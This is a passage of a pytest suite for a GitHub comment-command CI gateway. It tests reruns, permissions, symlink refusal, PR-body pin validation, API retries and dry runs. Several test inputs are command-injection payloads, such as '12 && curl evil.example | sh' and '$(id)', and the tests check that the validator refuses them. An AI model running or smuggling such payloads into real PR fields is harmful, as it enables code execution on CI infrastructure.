    test.write_text(test.read_text().replace('suite="stage-c-4-gpu-mi350"', 'suite="stage-c-4-gpu-h200"'))
    result = world.run(f"/rerun-test {file} {target}")
    assert result.out == done(f"dispatched ci-policy.yml for {file} at {HEAD}")
    assert world.gh.dispatches[-1]["inputs"] == {**inputs(file), "stage": stage}
    assert world.calls()[-1][-1]["body"].startswith(f"> /rerun-test {file} {target}\n\nRerunning `{file}` (rocm, "
                                                    f"stage-c-4-gpu-h200) on [{runs_on}]")


def test_prefer_of_the_trusted_configuration_picks_the_registration_and_is_dispatched_as_its_stage(world):
    # radixark/miles: `/rerun-test FILE` of a file registered for CUDA and ROCm reruns the CUDA one.
    config = world.trusted / ".github" / "ci-policy.yml"
    config.write_text(config.read_text() + "  prefer: [cuda, rocm]\n")
    file = "tests/e2e/test_rocm_fsdp_grpo.py"
    result = world.run(f"/rerun-test {file}")
    assert result.out == done(f"dispatched ci-policy.yml for {file} at {HEAD}")
    assert world.gh.dispatches[-1]["inputs"] == {**inputs(file), "stage": "stage-c-4-gpu-h200"}
    assert world.calls() == dispatched(world, file, {**inputs(file), "stage": "stage-c-4-gpu-h200"},
                                       f"(cuda, stage-c-4-gpu-h200; chosen by file_run.prefer of 2 registrations) "
                                       f"on [h200, 4gpu] at {HEAD[:12]}, timeout 1080s")


def test_prefer_of_the_prs_own_configuration_is_not_read(world):
    # The placement is the default branch's to decide: a PR cannot choose its rerun's runners.
    config = world.pr / ".github" / "ci-policy.yml"
    config.write_text(config.read_text() + "  prefer: [cuda, rocm]\n")
    world.gh.add_commit(HEAD, world.pr)
    file = "tests/e2e/test_rocm_fsdp_grpo.py"
    assert world.run(f"/rerun-test {file}").rc == 0
    assert world.gh.dispatches == []


def test_a_pr_that_adds_a_label_and_a_test_using_it_can_rerun_that_test(world):
    labels = world.pr / "labels.py"
    labels.write_text(labels.read_text().replace('"long":', '"vllm": "vLLM rollout",\n    "long":'))
    file = "tests/e2e/test_vllm_rollout.py"
    (world.pr / file).write_text('from ci_policy import register_cuda_ci\n\nregister_cuda_ci(est_time=400, '
                                 'suite="stage-b-1-gpu-h200", labels=["vllm"])\n\nimport unittest\n\n'
                                 'if __name__ == "__main__":\n    unittest.main()\n')
    result = world.run(f"/rerun-test {file}", login="maria")
    assert result.out == done(f"dispatched ci-policy.yml for {file} at {HEAD}")
    assert world.calls() == dispatched(world, file, inputs(file), f"(cuda, stage-b-1-gpu-h200) on [h200, 1gpu] at "
                                       f"{HEAD[:12]}, timeout 1200s")
    assert "vllm" not in (world.trusted / "labels.py").read_text()  # the trusted labels do not know it


def test_the_head_sha_read_at_comment_time_is_the_one_dispatched(world):
    file = "tests/e2e/test_megatron_sft.py"
    moved = world.tmp / "moved"
    shutil.copytree(world.pr, moved)
    (moved / file).write_text("# the file was rewritten after the comment\n")
    world.gh.add_commit(MOVED, moved)

    def push(fake: FakeGitHub, pull) -> None:  # a push lands right after the gateway read the PR
        pull.head_sha = MOVED

    world.gh.on_pull_read = push
    result = world.run(f"/rerun-test {file}", login="maria")
    assert result.out == done(f"dispatched ci-policy.yml for {file} at {HEAD}")
    assert world.gh.pulls[PR].reads == 1 and world.gh.pulls[PR].head_sha == MOVED
    assert world.calls() == dispatched(world, file, inputs(file, sha=HEAD), f"(cuda, stage-b-1-gpu-h200) on "
                                       f"[h200, 1gpu] at {HEAD[:12]}, timeout 900s")
    assert tree(MOVED) not in world.calls()


def refused(world: World, file: str, reason: str, reads: list[tuple], login: str = "maria") -> None:
    # The reason is quoted as code: much of it is text the PR's author controls.
    assert world.calls() == [perm(login), PULL, *reads,
                             reply(f"> /rerun-test {file}\n\ncannot rerun `{file}`: `{reason}`")]
    assert world.gh.dispatches == [] and world.gh.reactions == []


def test_an_unregistered_file_is_not_dispatched(world):
    file = "tests/e2e/test_plain.py"
    (world.pr / file).write_text("def test_nothing():\n    pass\n")
    result = world.run(f"/rerun-test {file}")
    assert (result.rc, result.out) == (0, f"ci-policy comment: refused: {file} is not registered for any stage\n")
    refused(world, file, f"{file} is not registered for any stage",
            [tree(), blob(world.pr_bytes("labels.py")), blob(world.pr_bytes(file))])


def test_a_file_missing_from_the_head_is_not_dispatched(world):
    file = "tests/e2e/test_missing.py"
    result = world.run(f"/rerun-test {file}")
    assert result.rc == 0
    refused(world, file, f"test file {file} does not exist at {HEAD[:12]}", [tree(), blob(world.pr_bytes("labels.py"))])


@pytest.mark.parametrize("file, reason", [
    ("tests/e2e/test_rocm_fsdp_grpo.py", "tests/e2e/test_rocm_fsdp_grpo.py has 2 registrations that can run (cuda "
     "stage-c-4-gpu-h200 (line 9), rocm stage-c-4-gpu-mi350 (line 10)); name the backend or stage to rerun"),
    ("tests/e2e/test_fsdp_checkpoint_resume.py", "tests/e2e/test_fsdp_checkpoint_resume.py is disabled: flaky on "
     "H200 driver 580, tracked in #1234"),
    ("tests/e2e/test_gb200_scaling.py", "tests/e2e/test_gb200_scaling.py is registered to stage-d-8-gpu-gb200, an "
     "external stage that ci-policy does not run"),
])
def test_a_file_that_does_not_resolve_to_one_runnable_stage_is_not_dispatched(world, file, reason):
    assert world.run(f"/rerun-test {file}").rc == 0
    refused(world, file, reason, [tree(), blob(world.pr_bytes("labels.py")), blob(world.pr_bytes(file))])


def test_a_symlinked_test_file_is_not_read(world):
    file = "tests/e2e/test_link.py"
    (world.pr / file).symlink_to("../../labels.py")
    assert world.run(f"/rerun-test {file}").rc == 0
    refused(world, file, f"test file {file} is a symlink; ci-policy refuses symlinks in a checkout",
            [tree(), blob(world.pr_bytes("labels.py"))])
    (entry,) = [e for e in world.gh.trees[HEAD] if e.path == file]
    assert entry.mode == "120000"


def test_a_directory_at_the_test_path_is_not_read_as_a_file(world):
    file = "tests/e2e/test_dir.py"
    (world.pr / file).mkdir()
    (world.pr / file / "test_inner.py").write_text("x = 1\n")
    assert world.run(f"/rerun-test {file}").rc == 0
    refused(world, file, f"test file {file} is not a regular file", [tree(), blob(world.pr_bytes("labels.py"))])


def test_a_symlinked_directory_on_the_path_is_refused(world):
    shutil.move(str(world.pr / "tests/e2e/session_server"), str(world.pr / "session"))
    (world.pr / "tests/e2e/session_server").symlink_to("../../session", target_is_directory=True)
    file = "tests/e2e/session_server/test_session_multiturn.py"
    assert world.run(f"/rerun-test {file}").rc == 0
    refused(world, file, f"test file {file}: directory tests/e2e/session_server is a symlink; ci-policy refuses "
            "symlinks in a checkout", [tree(), blob(world.pr_bytes("labels.py"))])


def test_a_symlinked_labels_file_is_refused(world):
    (world.pr / "labels.py").unlink()
    (world.pr / "labels.py").symlink_to("tests/e2e/test_megatron_sft.py")
    file = "tests/e2e/test_megatron_sft.py"
    assert world.run(f"/rerun-test {file}").rc == 0
    refused(world, file, "labels file labels.py is a symlink; ci-policy refuses symlinks in a checkout", [tree()])


def test_duplicated_known_labels_in_the_prs_labels_file_are_refused(world):
    labels = world.pr / "labels.py"
    labels.write_text(labels.read_text() + 'KNOWN_LABELS = {"megatron": "mine"}\n')
    file = "tests/e2e/test_megatron_sft.py"
    assert world.run(f"/rerun-test {file}").rc == 0
    refused(world, file, "KNOWN_LABELS is assigned 2 times (lines 7, 15); it must be assigned exactly once",
            [tree(), blob(labels.read_bytes()), blob(world.pr_bytes(file))])


@pytest.mark.parametrize("body, reason", [
    ("ci-sglang-pr: 12a", "the PR body's ci-sglang-pr value '12a' does not match '[0-9]{1,7}'"),
    ("ci-megatron-pr: 12345678", "the PR body's ci-megatron-pr value '12345678' does not match '[0-9]{1,7}'"),
    ("ci-sglang-pr: 12 && curl evil.example | sh",
     "the PR body's ci-sglang-pr value '12 && curl evil.example | sh' does not match '[0-9]{1,7}'"),
    ("ci-sglang-pr:", "the PR body's ci-sglang-pr value '' does not match '[0-9]{1,7}'"),
    ("ci-image-tag: $(id)", "the PR body's ci-image-tag value '$(id)' does not match "
                            "'[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}'"),
    ("ci-image-tag: -latest", "the PR body's ci-image-tag value '-latest' does not match "
                              "'[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}'"),
    ("ci-sglang-pr: 1\r\nci-sglang-pr: 2", "the PR body sets ci-sglang-pr twice"),
])
def test_an_invalid_pr_body_pin_is_refused_before_reading_the_tree(world, body, reason):
    world.gh.pulls[PR].body = f"Summary.\r\n\r\n{body}\r\n"
    file = "tests/e2e/test_megatron_sft.py"
    result = world.run(f"/rerun-test {file}")
    assert (result.rc, result.out) == (0, f"ci-policy comment: refused: {reason}\n")
    refused(world, file, reason, [])


def test_lines_that_are_not_pins_are_not_pins(world):
    world.gh.pulls[PR].body = ("- ci-sglang-pr: not a pin (a list item)\n`ci-image-tag: x y`\nci-unknown-pin: zzz\n"
                               "  ci-megatron-pr:\t77 \n")
    file = "tests/e2e/test_megatron_sft.py"
    assert world.run(f"/rerun-test {file}").rc == 0
    assert world.calls() == dispatched(world, file, inputs(file, image_tag="", sglang_pr="", megatron_pr="77"),
                                       f"(cuda, stage-b-1-gpu-h200) on [h200, 1gpu] at {HEAD[:12]}, timeout 900s")


# -- API errors: a clear reply, exit 1, never a traceback ----------------------------------------------------

def test_a_server_error_while_adding_a_label_gets_a_clear_reply_and_exit_1(world):
    world.gh.fail("POST", f"{P}/issues/{PR}/labels")
    result = world.run("/run-ci-megatron", login="ada")
    assert (result.rc, result.out, result.err) == (
        1, "ci-policy comment: failed: GitHub API error 500: Internal Server Error\n", "")
    assert world.calls() == [
        perm("ada"), get_label("run-ci-megatron"),
        ("POST", f"{P}/issues/{PR}/labels", {}, {"labels": ["run-ci-megatron"]}),
        reply("> /run-ci-megatron\n\n`/run-ci-megatron` failed: GitHub API error 500: Internal Server Error."),
    ]


def retries(method: str, path: str, answer: str) -> str:
    """What the client prints on stderr while it retries a request that keeps failing: 5 attempts."""
    return "".join(f"ci-policy: GitHub API request {method} {path} answered {answer}; attempt {n} of 5 {when}\n"
                   for n, when in ((2, "now"), (3, "after 2s"), (4, "after 4s"), (5, "after 8s")))


def test_a_server_error_of_the_permission_check_is_retried_then_gets_a_clear_reply_and_exit_1(world,
                                                                                             github_sleeps):
    world.gh.fail("GET", f"{P}/collaborators/ada/permission", 502, "Server Error")
    result = world.run("/clear-labels", login="ada")
    gave_up = (f"GitHub API request GET {P}/collaborators/ada/permission gave up after 5 attempts (last answer: "
               "HTTP 502); waited 14s between them")
    assert (result.rc, result.out, result.err) == (
        1, f"ci-policy comment: failed: {gave_up}\n", retries("GET", f"{P}/collaborators/ada/permission", "HTTP 502"))
    assert github_sleeps == [2.0, 4.0, 8.0]
    assert world.calls() == [perm("ada")] * 5 + [reply(f"> /clear-labels\n\n`/clear-labels` failed: {gave_up}.")]


def test_a_failed_dispatch_gets_a_clear_reply_and_no_reaction(world):
    world.gh.fail("POST", f"{P}/actions/workflows/ci-policy.yml/dispatches", 500, "Internal Server Error")
    file = "tests/e2e/test_megatron_sft.py"
    result = world.run(f"/rerun-test {file}")
    assert (result.rc, result.out) == (1, "ci-policy comment: failed: GitHub API error 500: Internal Server Error\n")
    assert world.calls() == [
        perm("maria"), PULL, tree(), blob(world.pr_bytes("labels.py")), blob(world.pr_bytes(file)),
        dispatch(inputs(file)),
        reply(f"> /rerun-test {file}\n\n`/rerun-test {file}` failed: GitHub API error 500: Internal Server Error."),
    ]


def test_when_even_the_reply_fails_the_error_is_reported_without_a_traceback(world):
    world.gh.fail("GET", f"{P}/collaborators/ada/permission")
    world.gh.fail("POST", f"{P}/issues/{PR}/comments", 503, "Service Unavailable")
    result = world.run("/run-ci-megatron", login="ada")
    gave_up = (f"GitHub API request GET {P}/collaborators/ada/permission gave up after 5 attempts (last answer: "
               "HTTP 500); waited 14s between them")
    # The reply is a POST: a 503 may have posted it, so it is not repeated.
    assert (result.rc, result.out, result.err) == (
        1, "ci-policy comment: failed: GitHub API error 503: Service Unavailable\n",
        retries("GET", f"{P}/collaborators/ada/permission", "HTTP 500"))
    assert world.calls() == [perm("ada")] * 5 + [reply(f"> /run-ci-megatron\n\n`/run-ci-megatron` failed: {gave_up}.")]


def test_an_unreachable_api_is_reported_without_a_traceback(world):
    with socket.socket() as s:  # a port nothing listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    result = world.run("/run-ci-megatron", "--api-url", f"http://127.0.0.1:{port}", login="ada")
    # No connection: nothing was sent, so even the reply (a POST) is tried again, 5 times in all.
    refused = "no answer, NewConnectionError"
    assert (result.rc, result.out, result.err) == (
        1, f"ci-policy comment: failed: GitHub API request POST {P}/issues/{PR}/comments gave up after 5 attempts "
           f"(last answer: {refused}); waited 14s between them\n",
        retries("GET", f"{P}/collaborators/ada/permission", refused)
        + retries("POST", f"{P}/issues/{PR}/comments", refused))
    assert world.calls() == []


# -- dry run -------------------------------------------------------------------------------------------------

def printed(out: str) -> list[dict]:
    return [json.loads(line) for line in out.splitlines()]


def test_dry_run_prints_the_mutating_requests_and_sends_only_reads(world):
    file = "tests/e2e/test_megatron_sft.py"
    result = world.run(f"/rerun-test {file}", "--dry-run", login="maria")
    assert (result.rc, result.err) == (0, done(f"dispatched ci-policy.yml for {file} at {HEAD}"))
    assert printed(result.out) == [
        {"method": "POST", "path": f"{P}/actions/workflows/ci-policy.yml/dispatches",
         "body": {"ref": "main", "inputs": inputs(file)}},
        {"method": "POST", "path": f"{P}/issues/comments/{COMMENT_ID}/reactions", "body": {"content": "+1"}},
        {"method": "POST", "path": f"{P}/issues/{PR}/comments", "body": {"body": (
            f"> /rerun-test {file}\n\nRerunning `{file}` (cuda, stage-b-1-gpu-h200) on [h200, 1gpu] at {HEAD[:12]}, "
            "timeout 900s: https://github.com/acme/minirl/actions/workflows/ci-policy.yml")}},
    ]
    assert world.calls() == [perm("maria"), PULL, tree(), blob(world.pr_bytes("labels.py")), blob(world.pr_bytes(file))]
    assert world.gh.dispatches == [] and world.gh.comments == [] and world.gh.reactions == []


def test_dry_run_of_clear_labels_prints_each_delete(world):
    world.gh.issue_labels[PR] = ["run-ci-fsdp", "documentation", "nightly"]
    result = world.run("/clear-labels", "--dry-run", login="tom")
    assert (result.rc, result.err) == (0, done("removed 2 CI label(s): run-ci-fsdp, nightly"))
    assert printed(result.out) == [
        {"method": "DELETE", "path": f"{P}/issues/{PR}/labels/run-ci-fsdp", "body": None},
        {"method": "DELETE", "path": f"{P}/issues/{PR}/labels/nightly", "body": None},
        {"method": "POST", "path": f"{P}/issues/comments/{COMMENT_ID}/reactions", "body": {"content": "+1"}},
    ]
    assert world.calls() == [perm("tom"), ("GET", f"{P}/issues/{PR}/labels", {"per_page": "100"}, None)]
    assert world.gh.issue_labels[PR] == ["run-ci-fsdp", "documentation", "nightly"]


def test_dry_run_of_a_refusal_prints_the_reply(world):
    result = world.run("/run-ci-megatron", "--dry-run", login="rita")
    assert result.err == "ci-policy comment: refused: rita (read) is not in group ci-helpers\n"
    assert printed(result.out) == [{"method": "POST", "path": f"{P}/issues/{PR}/comments", "body": {"body": (
        "> /run-ci-megatron\n\n@rita is not allowed to use `/run-ci-megatron` (it needs the ci-helpers group; your "
        "repository permission is read).")}}]
    assert world.calls() == [perm("rita")]


# -- the rerun workflow and the gateway agree ----------------------------------------------------------------

def test_the_dispatch_inputs_are_exactly_the_caller_workflows_inputs():
    """The one caller takes both dispatches: the pipeline's and /rerun-test's, all optional."""
    definition = workflow_dispatch_definition(CALLER_WORKFLOW)
    # `stage` is sent only when the command names a backend or stage (optional, like the pins).
    assert set(definition.inputs) == set(inputs("tests/e2e/test_a.py")) | {"stage", "pull-request", "cadence"}
    assert {name for name, required in definition.inputs.items() if required} == set()


def test_the_run_name_as_written_is_the_one_the_gateway_looks_for():
    rerun = {"test_file": "tests/e2e/test_a.py", "pull_number": "7", "head_sha": HEAD}
    definition = workflow_dispatch_definition(CALLER_WORKFLOW)
    assert definition.run_name(rerun) == run_name(7, "tests/e2e/test_a.py", HEAD)
    # A pipeline dispatch is named after its PR (its checks show on the default branch).
    assert definition.run_name({"pull-request": "7"}) == "ci-policy for #7 (started by a comment command)"


def test_the_callers_run_name_is_empty_for_every_other_event():
    from workflow_eval import interpolate

    for event in ("pull_request", "issue_comment", "schedule"):
        assert interpolate(RUN_NAME_AS_WRITTEN, {"inputs": {}, "github": {"event_name": event}}) == ""
